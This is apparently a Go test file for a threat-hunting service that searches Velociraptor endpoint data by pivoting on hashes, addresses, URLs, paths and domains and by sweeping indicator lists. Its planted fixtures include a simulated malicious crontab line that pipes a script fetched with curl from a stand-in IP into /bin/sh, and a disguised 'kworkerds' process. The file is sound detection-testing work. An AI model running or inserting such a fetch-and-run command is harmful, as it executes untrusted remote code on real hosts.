package hunt_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/velocicompanion/velocicompanion/companion/hunt"
	"github.com/velocicompanion/velocicompanion/companion/hunt/indicator"
	"github.com/velocicompanion/velocicompanion/ingest"
	"github.com/velocicompanion/velocicompanion/ingest/observable"
	"github.com/velocicompanion/velocicompanion/ingest/velociraptor"
	"github.com/velocicompanion/velocicompanion/store/memory"
	"github.com/velocicompanion/velocicompanion/tenancy"
)

const (
	beaconMD5    = "c7a06571f51f3493d20d057646020267"
	beaconSHA256 = "16313da1bf9c4b7edfb44318bd922d6cf2bfd3b1031606d856f8835230e0081f"
	emptySHA256  = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
)

// field is a tenant with rows to hunt in.
type field struct {
	*hunt.Service
	ingest *ingest.Service
	tenant tenancy.ID
	rows   []keptRow
}

// keptRow is a row as the plain reference has it.
type keptRow struct {
	client, artifact, text string
}

func newField(tb testing.TB) *field {
	tb.Helper()
	stores := memory.New()
	f := &field{tenant: tenancy.New()}
	require.NoError(tb, stores.Tenants.CreateTenant(tb.Context(), tenancy.Tenant{ID: f.tenant, Name: "field"}))
	var err error
	f.ingest, err = ingest.New(stores.Collections, stores.Hosts, ingest.Config{})
	require.NoError(tb, err)
	f.Service, err = hunt.New(stores.Collections, stores.Hosts, stores.Hunts, hunt.Config{})
	require.NoError(tb, err)
	return f
}

func (f *field) add(tb testing.TB, client, artifact string, rows ...string) {
	tb.Helper()
	_, err := f.ingest.Ingest(tb.Context(), f.tenant, &velociraptor.Table{
		Body: strings.NewReader(strings.Join(rows, "\n")), Artifact: artifact, ClientID: client,
	})
	require.NoError(tb, err)
	for _, row := range rows {
		f.rows = append(f.rows, keptRow{client, artifact, row})
	}
}

func (f *field) scope() hunt.Scope { return hunt.Scope{Tenants: []tenancy.ID{f.tenant}} }

// pivot returns what a pivot finds, as "client artifact rows".
func (f *field) pivot(tb testing.TB, value string) (found []string, answer hunt.PivotAnswer) {
	tb.Helper()
	answer, err := f.Pivot(tb.Context(), hunt.Pivot{Scope: f.scope(), Value: value})
	require.NoError(tb, err)
	require.True(tb, answer.Complete)
	for _, h := range answer.Hosts {
		for _, a := range h.Artifacts {
			require.NotEmpty(tb, a.Collections)
			require.False(tb, a.FirstSeen.After(a.LastSeen))
			found = append(found, fmt.Sprintf("%s %s %d", h.Host.ClientID, a.Artifact, a.Rows))
		}
	}
	slices.Sort(found)
	return found, answer
}

func planted(tb testing.TB) *field {
	tb.Helper()
	f := newField(tb)
	f.add(tb, "C.1", "Linux.Sys.Pslist",
		`{"Name":"kworkerds","Exe":"/var/tmp/.cache/kworkerds","Hash":{"MD5":"`+beaconMD5+`","SHA256":"`+strings.ToUpper(beaconSHA256)+`"},"Username":"www-data","CreateTime":"2026-11-23T17:39:32Z"}`,
		`{"Name":"kthreadd","Exe":"","Hash":{"MD5":"d41d8cd98f00b204e9800998ecf8427e","SHA256":"`+emptySHA256+`"},"Username":"root"}`)
	f.add(tb, "C.1", "Linux.Sys.Crontab/CronTabs",
		`{"Command":"/usr/bin/curl -fsS http://203.0.113.66/p.sh | /bin/sh"}`,
		`{"Command":"/var/tmp/.cache/kworkerds >/dev/null /var/tmp/.cache/kworkerds"}`)
	f.add(tb, "C.2", "Linux.Network.NetstatEnriched",
		`{"Raddr":"203.0.113.66","Laddr":"0.0.0.0"}`, `{"Raddr":"::ffff:203.0.113.66"}`, `{"Raddr":"203.0.113.67","Version":"203.0.113.66"}`)
	f.add(tb, "C.2", "Custom.Sigma", `{"Title":"Beacon","PE":{"ImpHash":"`+beaconMD5+`"},"Users":["CORP\\Alice","bob"]}`)
	return f
}

func TestPivotFindsAValueWhereverItStands(t *testing.T) {
	t.Parallel()
	f := planted(t)
	for value, want := range map[string][]string{
		beaconSHA256:                {"sha256", "C.1 Linux.Sys.Pslist 1"},
		strings.ToUpper(beaconMD5):  {"md5", "C.1 Linux.Sys.Pslist 1", "C.2 Custom.Sigma 1"},
		"203[.]0.113.66":            {"ip", "C.1 Linux.Sys.Crontab/CronTabs 1", "C.2 Linux.Network.NetstatEnriched 2"},
		"hxxp://203.0.113.66/p.sh":  {"url", "C.1 Linux.Sys.Crontab/CronTabs 1"},
		"/var/tmp/.cache/kworkerds": {"path", "C.1 Linux.Sys.Crontab/CronTabs 1", "C.1 Linux.Sys.Pslist 1"},
		"Beacon":                    {"text", "C.2 Custom.Sigma 1"},
		"beac":                      {"text"},
		emptySHA256:                 {"sha256"},
		"0.0.0.0":                   {"text", "C.2 Linux.Network.NetstatEnriched 1"},
		"10.9.8.7":                  {"ip"},
	} {
		found, answer := f.pivot(t, value)
		require.Equal(t, want, append([]string{answer.Kind}, found...), value)
		require.EqualValues(t, 8, answer.Scanned.Rows)
	}
}

// TestPivotFindsEachValueThatStandsInARow asks for what can be clicked in a table, whatever else it looks like.
func TestPivotFindsEachValueThatStandsInARow(t *testing.T) {
	t.Parallel()
	f := newField(t)
	values := []string{
		"backup.sh", "run.py", "payload.zip", "libfoo.so", "README.md", "x.pl", "a.ps", "update.com", "setup.exe", "evil.example.com",
		"/usr/bin/tcpdump -i eth0 -w /var/tmp/jump.pcap", `C:\Windows\System32\cmd.exe /c dir`, "a.evil.co.uk/path", "http://evil.example.com/a?b=c#d",
		" padded ", "\tx\n", " /var/tmp/padded ", "10.88.0.41/24", "10.0.0.1-10.0.0.9", "10.88.0.41:443", "203[.]0[.]113[.]66", "hxxp://evil[.]example/x",
		"10.88.0.41", "2001:0DB8:0:0:0:0:0:1", "::ffff:10.1.2.3", "fe80::1%eth0", "0.0.0.0", "::", "bob@evil.example.com", `CORP\bob`, "bob", `NT AUTHORITY\SYSTEM`,
		beaconMD5, strings.ToUpper(beaconSHA256), "sha256:" + beaconSHA256, "S-1-5-18", `HKLM\Software\Run`, "größe.example", "a\x00b", `"quoted"`, `back\slash`,
		"*", "true", "42", "-", "null", "x", "Ünïcode", strings.Repeat("long", 5000), strings.Repeat(`\`, hunt.MaxPivotBytes),
	}
	columns := []string{"Name", "CommandLine", "OSPath", "User", "Hostname", "Fqdn", "Version", "ImpHash", "Domain", "Deep.Hash"}
	for i, column := range columns {
		var rows []string
		for _, value := range values {
			row, err := json.Marshal(map[string]any{column: value, "Same": value, "n": i})
			require.NoError(t, err)
			rows = append(rows, string(row))
		}
		f.add(t, fmt.Sprint("C.", i), "Custom."+column, rows...)
	}
	for _, value := range values {
		_, answer := f.pivot(t, value)
		require.Len(t, answer.Hosts, len(columns), value)
	}
	for value, want := range map[string]int64{"backup.sh": 1, " padded ": 1, "10.88.0.41/24": 1, "a.evil.co.uk/path": 1} {
		_, answer := f.pivot(t, value)
		require.Len(t, answer.Hosts, len(columns), value)
		for _, h := range answer.Hosts {
			require.Equal(t, want, h.Artifacts[0].Rows, "%s: each row once", value)
		}
	}
}

func TestPivotFindsAnAddressAmongVersionsWhereItIsNoOther(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.add(t, "C.1", "Custom.Programs", `{"Version":"1.2.3.4"}`)
	found, _ := f.pivot(t, "1.2.3.4")
	require.Equal(t, []string{"C.1 Custom.Programs 1"}, found)
	f.add(t, "C.2", "Custom.Net", `{"Raddr":"1.2.3.4"}`)
	found, _ = f.pivot(t, "1.2.3.4")
	require.Equal(t, []string{"C.2 Custom.Net 1"}, found)
}

func TestPivotFindsAUserByTheNameAlone(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.add(t, "C.1", "Custom.Logons", `{"SubjectUserName":"CORP\\Bob"}`, `{"User":"bob"}`, `{"Command":"id bob"}`)
	found, answer := f.pivot(t, "bob")
	require.Equal(t, []string{"text", "C.1 Custom.Logons 2"}, append([]string{answer.Kind}, found...))
}

func TestPivotFindsADomainInTheLettersOfItsLanguage(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.add(t, "C.1", "Windows.System.DNSCache", `{"Name":"xn--bcher-kva.example"}`, `{"Name":"größe.example"}`)
	f.add(t, "C.2", "Windows.Applications.Chrome.History", `{"visited_url":"https://xn--bcher-kva.example/x"}`)
	for _, value := range []string{"bücher.example", "xn--bcher-kva.example", "BÜCHER[.]example"} {
		found, answer := f.pivot(t, value)
		require.Equal(t, []string{"C.1 Windows.System.DNSCache 1", "C.2 Windows.Applications.Chrome.History 1"}, found, value)
		require.Equal(t, "domain xn--bcher-kva.example", answer.Kind+" "+answer.Value)
	}
	found, answer := f.pivot(t, "größe.example")
	require.Equal(t, []string{"C.1 Windows.System.DNSCache 1"}, found, "a row may have it as it is")
	require.EqualValues(t, 3, answer.Scanned.Rows)
}

func TestASweptNetworkFindsItsAddresses(t *testing.T) {
	t.Parallel()
	f := planted(t)
	list, err := indicator.Read(strings.NewReader("203.0.113[.]99/26\n203.0.113.66-203.0.113.66\n203.0.113.70-203.0.113.80\n"))
	require.NoError(t, err)
	answer, err := f.Sweep(t.Context(), hunt.Sweep{Scope: f.scope(), List: list})
	require.NoError(t, err)
	var hits []string
	for _, h := range answer.Hits {
		hits = append(hits, fmt.Sprintf("%d %s %s %s %d", h.Line, h.Value, h.Kind, h.Host.ClientID, h.Rows))
	}
	require.Equal(t, []string{
		"1 203.0.113.64/26 ip C.1 1", "1 203.0.113.64/26 ip C.2 3", "2 203.0.113.66-203.0.113.66 ip C.1 1", "2 203.0.113.66-203.0.113.66 ip C.2 2",
	}, hits)
	require.Len(t, answer.Missed, 1)

	w, err := f.SaveWatchlist(t.Context(), f.tenant, "Networks", "", list)
	require.NoError(t, err)
	_, kept, err := f.Service.Watchlist(t.Context(), f.tenant, w.ID)
	require.NoError(t, err)
	require.Equal(t, list.Indicators, kept.Indicators)
}

func TestPivotTellsWhenAValueWasSeen(t *testing.T) {
	t.Parallel()
	_, answer := planted(t).pivot(t, beaconSHA256)
	found := answer.Hosts[0].Artifacts[0]
	require.Equal(t, "2026-11-23T17:39:32Z", found.FirstSeen.Format("2006-01-02T15:04:05Z07:00"))
	require.Equal(t, found.FirstSeen, found.LastSeen)
}

func TestPivotKeepsToItsScope(t *testing.T) {
	t.Parallel()
	f := planted(t)
	scope := f.scope()
	scope.Query = "Name: kworkerds"
	answer, err := f.Pivot(t.Context(), hunt.Pivot{Scope: scope, Value: "/var/tmp/.cache/kworkerds"})
	require.NoError(t, err)
	require.Len(t, answer.Hosts, 1)
	require.Len(t, answer.Hosts[0].Artifacts, 1)
	_, err = f.Pivot(t.Context(), hunt.Pivot{Scope: hunt.Scope{}, Value: "x"})
	require.ErrorIs(t, err, tenancy.ErrNoTenant)
	for _, value := range []string{" ", strings.Repeat("x", hunt.MaxPivotBytes+1)} {
		_, err = f.Pivot(t.Context(), hunt.Pivot{Scope: f.scope(), Value: value})
		require.ErrorIs(t, err, hunt.ErrQuestion)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err = f.Pivot(ctx, hunt.Pivot{Scope: f.scope(), Value: beaconSHA256})
	require.ErrorIs(t, err, context.Canceled)
}

func TestSweepTellsHitsMissesAndWhatIsNoIndicator(t *testing.T) {
	t.Parallel()
	f := planted(t)
	list, err := indicator.Read(strings.NewReader("# list\n" + beaconSHA256 + "\n203[.]0[.]113[.]66\nhxxp://nothing[.]example/x\nnot an indicator at all\n"))
	require.NoError(t, err)
	answer, err := f.Sweep(t.Context(), hunt.Sweep{Scope: f.scope(), List: list})
	require.NoError(t, err)
	require.Equal(t, 3, answer.Indicators)
	require.Len(t, answer.Missed, 1)
	require.Equal(t, 4, answer.Missed[0].Line)
	require.Equal(t, "hxxp://nothing[.]example/x", answer.Missed[0].Text)
	require.Len(t, answer.Invalid, 1)
	var hits []string
	for _, h := range answer.Hits {
		hits = append(hits, fmt.Sprintf("%d %s %s %s %s %d", h.Line, h.Indicator, h.Kind, h.Host.ClientID, h.Artifact, h.Rows))
	}
	require.Equal(t, []string{
		"2 " + beaconSHA256 + " sha256 C.1 Linux.Sys.Pslist 1",
		"3 203[.]0[.]113[.]66 ip C.1 Linux.Sys.Crontab/CronTabs 1", "3 203[.]0[.]113[.]66 ip C.2 Linux.Network.NetstatEnriched 2",
	}, hits)
	require.True(t, answer.Complete)
}

func TestListsFindNamesOfFilesAndDomainsOfHostsFiles(t *testing.T) {
	t.Parallel()
	f := newField(t)
	f.add(t, "C.1", "Windows.System.HostsFile", `{"Resolution":"8.8.8.8","Hostname":"evil.com"}`, `{"Hostname":["a.example","Evil.com"]}`)
	f.add(t, "C.1", "Linux.Sys.Pslist", `{"Name":"Backup.sh"}`, `{"Name":"x","CommandLine":"ping update.zip"}`)
	f.add(t, "C.1", "Windows.System.DNSCache", `{"QueryName":"update.zip"}`, `{"QueryName":"run.py"}`)
	list, err := indicator.Read(strings.NewReader("evil.com\nbackup.sh\nupdate.zip\nrun.py\n"))
	require.NoError(t, err)
	want := []string{"evil.com Windows.System.HostsFile 2", "backup.sh Linux.Sys.Pslist 1", "update.zip Windows.System.DNSCache 1", "run.py Windows.System.DNSCache 1"}
	answer, err := f.Sweep(t.Context(), hunt.Sweep{Scope: f.scope(), List: list})
	require.NoError(t, err)
	var hits, sighted []string
	for _, h := range answer.Hits {
		hits = append(hits, fmt.Sprint(h.Indicator, " ", h.Artifact, " ", h.Rows))
	}
	require.Equal(t, want, hits)

	_, err = f.SaveWatchlist(t.Context(), f.tenant, "Names", "", list)
	require.NoError(t, err)
	all, err := f.Sightings(t.Context(), f.tenant, hunt.SightingFilter{Limit: 10})
	require.NoError(t, err)
	for _, s := range all {
		sighted = append(sighted, fmt.Sprint(s.Indicator, " ", s.Artifact, " ", s.Rows))
	}
	require.ElementsMatch(t, want, sighted)
}

// TestPivotAndSweepAreWhatAPlainWalkFinds holds both to a walk over all rows with encoding/json.
func TestPivotAndSweepAreWhatAPlainWalkFinds(t *testing.T) {
	t.Parallel()
	random := rand.New(rand.NewPCG(1, 2))
	words := []string{
		beaconSHA256, beaconMD5, "10.0.0.1", "10.0.0.2:80", "fe80::1", "evil.example.com", "http://evil.example.com/a", "bob@evil.example.com",
		`C:\Temp\X.exe`, "/tmp/x", `CORP\bob`, "S-1-5-18", `HKLM\Soft\Run`, "svchost.exe", "run /tmp/x from 10.0.0.1 now", emptySHA256, "", "\u0000\u2028é",
	}
	f := newField(t)
	for i := range 30 {
		var rows []string
		for range 1 + random.IntN(40) {
			rows = append(rows, randomIndicatorRow(t, random, words))
		}
		f.add(t, fmt.Sprintf("C.%d", random.IntN(5)), fmt.Sprintf("Custom.A%d", i%3), rows...)
	}
	list := indicator.List{}
	want, wantPivoted := map[string]int{}, map[string]int{} // by indicator, client and artifact
	for i, word := range words {
		same := observable.Same(word)
		if len(same) == 0 || same[0].OfEmptyFile() {
			continue
		}
		list.Indicators = append(list.Indicators, indicator.Indicator{Text: word, Line: i + 1, Observables: same})
		for _, row := range f.rows {
			if rowHolds(t, row.text, same, "") {
				want[word+" "+row.client+" "+row.artifact]++
			}
			whole := word
			if same[0].Value == word && same[0].Kind <= observable.IP {
				whole = ""
			}
			if rowHolds(t, row.text, same, whole) {
				wantPivoted[word+" "+row.client+" "+row.artifact]++
			}
		}
	}
	require.Greater(t, len(want), 50)
	swept, err := f.Sweep(t.Context(), hunt.Sweep{Scope: f.scope(), List: list})
	require.NoError(t, err)
	got := map[string]int{}
	for _, h := range swept.Hits {
		got[h.Indicator+" "+h.Host.ClientID+" "+h.Artifact] = int(h.Rows)
	}
	require.Equal(t, want, got)
	pivoted := map[string]int{}
	for _, one := range list.Indicators {
		_, answer := f.pivot(t, one.Text)
		for _, h := range answer.Hosts {
			for _, a := range h.Artifacts {
				pivoted[one.Text+" "+h.Host.ClientID+" "+a.Artifact] = int(a.Rows)
			}
		}
	}
	require.Equal(t, wantPivoted, pivoted)
}

func randomIndicatorRow(tb testing.TB, random *rand.Rand, words []string) string {
	tb.Helper()
	row := map[string]any{}
	for _, name := range []string{"Name", "Hash.MD5", "ImpHash", "User", "CommandLine", "Path", "Version", "Fqdn2", "Query"} {
		switch word := words[random.IntN(len(words))]; random.IntN(8) {
		case 0:
			row[name] = map[string]any{"Inner": word, "Other": random.IntN(100)}
		case 1:
			row[name] = []any{word, nil, words[random.IntN(len(words))], []any{}}
		case 2:
			row[name] = nil
		case 3, 4:
			row[name] = word
		}
	}
	text, err := json.Marshal(row)
	require.NoError(tb, err)
	return string(text)
}

// rowHolds walks a row and asks for each of its values alone, whether it has an observable or is a text.
func rowHolds(tb testing.TB, row string, same []observable.Observable, whole string) (holds bool) {
	tb.Helper()
	var value any
	require.NoError(tb, json.Unmarshal([]byte(row), &value))
	var walk func(path string, value any)
	walk = func(path string, value any) {
		switch v := value.(type) {
		case map[string]any:
			for name, inner := range v {
				walk(strings.TrimPrefix(path+"."+name, "."), inner)
			}
		case []any:
			for _, inner := range v {
				walk(path, inner)
			}
		case string:
			holds = holds || whole != "" && strings.EqualFold(v, whole)
			token, err := json.Marshal(v)
			require.NoError(tb, err)
			var f observable.Finder
			f.Find(path, token, func(kind observable.Kind, value []byte) {
				holds = holds || slices.Contains(same, observable.Observable{Kind: kind, Value: string(value)})
			})
		}
	}
	walk("", value)
	return holds
}
